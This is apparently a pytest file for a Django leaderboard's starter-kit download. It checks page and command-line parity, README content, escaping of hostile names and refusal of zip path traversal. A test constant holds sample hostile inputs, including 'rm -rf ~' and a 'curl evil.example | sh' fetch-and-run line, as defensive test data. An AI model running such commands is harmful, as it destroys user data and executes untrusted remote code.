"""The kit of a phase: the same from page and command, harmless whatever its texts are."""

import ast
import io
import re
import subprocess
import sys
import zipfile
from datetime import UTC, datetime
from pathlib import Path

import pytest
from django.test import Client
from django.urls import reverse
from pytest_django.live_server_helper import LiveServer

from leaderboard.client.__main__ import main
from leaderboard.client.command_line import Misused, Refused
from leaderboard.client.starter_kit import kit_unpack
from leaderboard.models import Challenge, Phase
from leaderboard.starter.package import KIT, kit_packed, plain_markdown
from tests.factories import PhaseFactory
from tests.leaderboard.conftest import Cast
from tests.real_data import ROOT

HOSTILE = (
    "Sounds | `rm -rf ~` <script>x</script>\n\n    curl evil.example | sh\n# {{ site }} [a](b)"
)


def unpacked(data: bytes) -> dict[str, str]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {Path(name).name: archive.read(name).decode() for name in archive.namelist()}


@pytest.mark.one_database
def test_page_and_command_give_the_same_kit(
    transactional_db: None, live_server: LiveServer, tmp_path: Path
) -> None:
    phase = PhaseFactory.create()
    address = reverse("leaderboard:starter-kit", args=[phase.challenge.slug, phase.slug])
    page = Client().get(reverse("leaderboard:challenge", args=[phase.challenge.slug]))
    assert f'href="{address}"' in page.content.decode()
    downloaded = unpacked(Client().get(address).content)
    slug = f"{phase.challenge.slug}/{phase.slug}"
    asked = ["--server", live_server.url, "starter", "--phase", slug]
    assert main([*asked, "--out", str(tmp_path / "kit")]) == 0
    files = {path.name: path.read_text() for path in (tmp_path / "kit").iterdir()}
    assert files == downloaded
    assert {"README.md", "requirements.txt", "train.py", "predict.py"} < files.keys()
    # What was written since is not lost.
    assert main([*asked, "--out", str(tmp_path / "kit")]) == 2


@pytest.mark.one_database
def test_the_readme_is_the_phases(cast: Cast) -> None:
    phase = cast.phase
    Phase.objects.filter(pk=phase.pk).update(
        opens_at=datetime(2026, 3, 1, 12, tzinfo=UTC), quota_per_day=3, ranking_metric="fense"
    )
    phase.refresh_from_db()
    text = unpacked(kit_packed(phase))["README.md"]
    assert "2026-03-01 12:00 UTC" in text
    assert "3 a day" in text
    assert "`fense`" in text
    assert f"--phase {phase.challenge.slug}/{phase.slug}" in text
    assert not re.search(r"\{[{%]|[%}]\}", text)


@pytest.mark.one_database
def test_hostile_names_stay_text(cast: Cast) -> None:
    Challenge.objects.filter(pk=cast.phase.challenge_id).update(title=HOSTILE)
    Phase.objects.filter(pk=cast.phase.pk).update(name=HOSTILE[:80])
    phase = Phase.objects.select_related("challenge").get(pk=cast.phase.pk)
    text = unpacked(kit_packed(phase))["README.md"]
    first = text.splitlines()[0]
    assert first.startswith("# Starter kit: Sounds \\| \\`rm \\-rf \\~\\` \\<script\\>")
    assert "\\{\\{ site \\}\\}" in first
    assert not any("evil" in line for line in text.splitlines()[1:])
    # A control character or one that turns the writing round is no part of a line.
    assert plain_markdown("a\x1b[31m\u202eb") == "a \\[31m b"


@pytest.mark.parametrize("name", ["../train.py", "kit/../../train.py", "/kit/x.py", "kit/.bashrc"])
def test_no_site_puts_a_file_elsewhere(tmp_path: Path, name: str) -> None:
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w") as archive:
        archive.writestr(name, "x")
    with pytest.raises(Refused, match="no starter kit has"):
        kit_unpack(data.getvalue(), tmp_path / "kit")
    assert not list(tmp_path.rglob("*.py"))
    with pytest.raises(Refused, match="did not send"):
        kit_unpack(b"<html>", tmp_path / "kit")
    (tmp_path / "full").mkdir()
    (tmp_path / "full" / "notes").write_text("mine")
    with zipfile.ZipFile(data, "w") as archive:
        archive.writestr("kit/train.py", "x")
    with pytest.raises(Misused, match="not empty"):
        kit_unpack(data.getvalue(), tmp_path / "full")


def test_nothing_of_the_product_imports_the_kit() -> None:
    own = {path.stem for path in KIT.glob("*.py")}
    for package in ("scoring", "leaderboard", "annotation"):
        for path in (ROOT / package).rglob("*.py"):
            if path.parent == KIT:
                continue
            for node in ast.walk(ast.parse(path.read_text())):
                names = [alias.name for alias in node.names] if isinstance(node, ast.Import) else []
                names += [node.module or ""] if isinstance(node, ast.ImportFrom) else []
                assert not own & set(names), path
                assert not any(name.startswith("leaderboard.starter.kit") for name in names), path


def test_the_kit_imports_nothing_of_the_site() -> None:
    """The site's modules need Django; a participant has the scorer alone."""
    code = (
        "import sys, pathlib; sys.path.insert(0, sys.argv[1]); import train, predict, compare;"
        "print(sorted({'django', 'leaderboard', 'annotation'} & set(sys.modules)))"
    )
    done = subprocess.run(
        [sys.executable, "-c", code, str(KIT)], cwd=ROOT, capture_output=True, text=True, check=True
    )
    assert done.stdout.strip() == "[]"
